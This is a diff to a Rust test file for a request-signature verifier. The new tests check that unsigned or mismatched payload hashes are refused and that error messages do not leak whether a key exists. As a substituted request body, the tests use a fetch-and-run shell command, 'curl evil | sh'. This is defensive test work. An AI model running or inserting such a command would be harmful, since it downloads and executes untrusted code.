@@ -80,8 +80,17 @@ fn huawei_vectors_sign_and_verify() {
             };
             huawei::verify(&raw, |a| (a == ak).then(|| secret.to_string()), now)
         };
+        // An unsigned payload (`X-Sdk-Content-Sha256: UNSIGNED-PAYLOAD`, what the SDK sends for
+        // a non-JSON body) would let a captured signature carry any body: it is refused.
+        let unsigned = hs.iter().any(|(k, v)| {
+            k.eq_ignore_ascii_case("x-sdk-content-sha256") && v == "UNSIGNED-PAYLOAD"
+        });
+        if unsigned {
+            assert_eq!(check(body, sk), Err(huawei::Rejected::BodyHash), "{name}");
+            continue;
+        }
         assert_eq!(check(body, sk), Ok(ak.to_string()), "{name}: verify");
-        // ...and rejects another secret and a changed body (unless the payload is unsigned).
+        // ...and rejects another secret and a changed body.
         assert_eq!(
             check(body, "other"),
             Err(huawei::Rejected::Mismatch),
@@ -143,9 +152,80 @@ fn huawei_verifier_rejects_unknown_key_and_missing_header() {
         huawei::verify(&raw, |_| None, now),
         Err(huawei::Rejected::UnknownKey)
     );
+    // The words of an unknown key and a wrong signature are the same: keys cannot be probed.
+    assert_eq!(
+        huawei::Rejected::UnknownKey.to_string(),
+        huawei::Rejected::Mismatch.to_string()
+    );
     assert_eq!(
         huawei::verify(&raw, |_| Some("SK".into()), now),
         Ok("AK".into())
+    );
+}
+
+/// A captured signed request cannot carry another body: a payload hash header counts only when
+/// signed and equal to the hash of the body that arrived.
+#[test]
+fn a_signed_payload_hash_must_be_the_body_that_arrived() {
+    let now = Utc::now();
+    let date = now.format(huawei::DATE_FORMAT).to_string();
+    let body = br#"{"name":"ok"}"#;
+    let hash = hex::encode(<sha2::Sha256 as sha2::Digest>::digest(body));
+    let hs = vec![
+        ("Content-Type".to_string(), "application/json".to_string()),
+        ("Host".to_string(), "127.0.0.1:8080".to_string()),
+        ("X-Sdk-Content-Sha256".to_string(), hash.clone()),
+        ("X-Sdk-Date".to_string(), date),
+    ];
+    let auth = huawei::authorization("AK", "SK", "PUT", "/v1/job/scripts/x", "", &hs, body);
+    let mut sent = hs.clone();
+    sent.push(("Authorization".into(), auth));
+    let check = |body: &[u8]| {
+        huawei::verify(
+            &huawei::RawRequest {
+                method: "PUT",
+                path: "/v1/job/scripts/x",
+                query: "",
+                headers: &sent,
+                body,
+            },
+            |_| Some("SK".into()),
+            now,
+        )
+    };
+    assert_eq!(check(body), Ok("AK".into()));
+    assert_eq!(
+        check(br#"{"content":"curl evil | sh"}"#),
+        Err(huawei::Rejected::BodyHash),
+        "the signed hash names the body that was signed, not this one"
+    );
+    // The header added after signing (unsigned) is refused too.
+    let plain: Vec<_> = hs
+        .iter()
+        .filter(|(k, _)| k != "X-Sdk-Content-Sha256")
+        .cloned()
+        .collect();
+    let auth = huawei::authorization("AK", "SK", "PUT", "/v1/job/scripts/x", "", &plain, body);
+    let mut sent = plain.clone();
+    sent.push(("Authorization".into(), auth));
+    let other = br#"{"content":"curl evil | sh"}"#;
+    sent.push((
+        "X-Sdk-Content-Sha256".into(),
+        hex::encode(<sha2::Sha256 as sha2::Digest>::digest(body)),
+    ));
+    assert_eq!(
+        huawei::verify(
+            &huawei::RawRequest {
+                method: "PUT",
+                path: "/v1/job/scripts/x",
+                query: "",
+                headers: &sent,
+                body: other,
+            },
+            |_| Some("SK".into()),
+            now,
+        ),
+        Err(huawei::Rejected::BodyHash)
     );
 }
 
